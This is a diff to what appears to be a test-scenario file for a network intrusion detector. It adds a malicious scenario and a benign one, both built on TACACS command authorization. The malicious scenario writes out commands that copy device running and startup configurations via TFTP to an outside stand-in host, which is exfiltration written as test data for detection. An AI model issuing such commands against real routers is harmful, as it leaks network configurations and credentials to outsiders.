@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
 from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, OUTSIDE, ROGUE
-from bootwarden.traffic import syslog
+from bootwarden.traffic import syslog, tacacs
 from bootwarden.traffic.telnet import Telnet, rsh
 from bootwarden.traffic.wire import Wire
 
@@ -113,3 +113,33 @@ def bw18_backups_ordered(wire: Wire) -> None:
     session.tcp.reply(b"ProCurve# ")
     session.typed(f"copy running-config tftp {BOOT_SERVER} x.cfg")
     session.close()
+
+
+AAA = "10.0.9.49"
+
+
+@scenario(
+    "BW18",
+    "malicious",
+    raises=[("BW18", 1542007452, host, AAA) for host in (DEVICE, "10.0.1.2")],
+    site=HQ,
+    with_site=Expect((sent(1, "w.cfg", OUTSIDE), sent(2, "w.cfg", OUTSIDE))),
+)
+def bw18_asked_word_by_word(wire: Wire) -> None:
+    """Devices without a key ask leave to send their configurations, word by word, one with switches before."""
+    for host, command in (
+        (DEVICE, f"copy running-config tftp://{OUTSIDE}/w.cfg"),
+        ("10.0.1.2", f"copy /noverify nvram:startup-config tftp://{OUTSIDE}/w.cfg"),
+    ):
+        device = tacacs.Device(wire, host, AAA)
+        device.authorize(command, source=ATTACKER)
+        device.close()
+
+
+@scenario("BW18", "benign", site=HQ, with_site=Expect())
+def bw18_asked_for_local_copy(wire: Wire) -> None:
+    """A device asks leave to copy within itself, and to show a file that speaks of a server."""
+    device = tacacs.Device(wire, DEVICE, AAA)
+    for command in ("copy running-config startup-config", "copy running-config tftp-notes.cfg", "show tftp-server"):
+        device.authorize(command, source=ADMIN)
+    device.close()
